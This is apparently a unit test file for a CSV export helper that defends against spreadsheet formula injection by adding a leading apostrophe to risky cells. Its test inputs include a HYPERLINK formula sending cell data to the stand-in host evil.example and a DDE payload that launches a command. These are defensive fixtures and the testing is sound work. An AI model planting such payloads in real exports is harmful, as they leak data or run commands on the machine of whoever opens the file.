import { csvField, spreadsheetText } from './text-export';

describe('text cells a spreadsheet opens (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `'=HYPERLINK("http://evil.example/?x="&A1,"click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('neutralises %j with a leading apostrophe', (text, expected) => {
    expect(spreadsheetText(text)).toBe(expected);
  });

  it('leaves other texts as they are, a formula character later in the text included', () => {
    for (const text of ['Charte de la donnée', 'Budget 2027 = 40 k€', 'A-1', '', ' =espace devant', "'déjà"]) {
      expect(spreadsheetText(text)).toBe(text);
    }
  });

  it('writes CSV fields: numbers as they are, texts neutralised, then quoted when they hold ; " or a line break', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(42)).toBe('42');
    expect(csvField('Comité; éthique')).toBe('"Comité; éthique"');
    expect(csvField('Le « "pourquoi" »')).toBe('"Le « ""pourquoi"" »"');
    expect(csvField('=1+1;2')).toBe(`"'=1+1;2"`);
    expect(csvField("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
  });
});
